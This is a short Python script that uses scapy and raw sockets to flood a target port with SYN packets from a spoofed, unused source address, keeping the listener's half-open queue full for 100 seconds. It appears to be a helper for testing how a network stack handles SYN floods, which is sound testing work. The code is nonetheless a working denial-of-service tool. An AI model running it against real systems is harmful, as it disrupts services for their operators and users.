#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""half_open.py TARGET PORT SOURCE COUNT: keeps a listener's queue of half-open connections full.

COUNT SYNs from SOURCE, an address that nobody has and of which the target knows a link-layer address, so
that nobody resets them; then some more every 50 ms, for those that expire. Ends by itself after 100 s.
"""

import random
import socket
import sys
import time

from scapy.all import IP, TCP, IPv6  # pylint: disable=no-name-in-module

LIMIT = 100
AGAIN = 4


def main():
    target, port, source, count = sys.argv[1:]
    v6 = ":" in target
    wire = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ip = IPv6(src=source, dst=target) if v6 else IP(src=source, dst=target, flags="DF")
    end = time.monotonic() + LIMIT

    def send(number):
        for _ in range(number):
            tcp = TCP(sport=random.randrange(1024, 65536), dport=int(port), seq=random.getrandbits(32),
                      window=64240, options=[("MSS", 1460)])
            wire.sendto(bytes(ip / tcp), (target, 0))

    send(int(count))
    print("full", flush=True)
    while time.monotonic() < end:
        time.sleep(0.05)
        send(AGAIN)


if __name__ == "__main__":
    main()
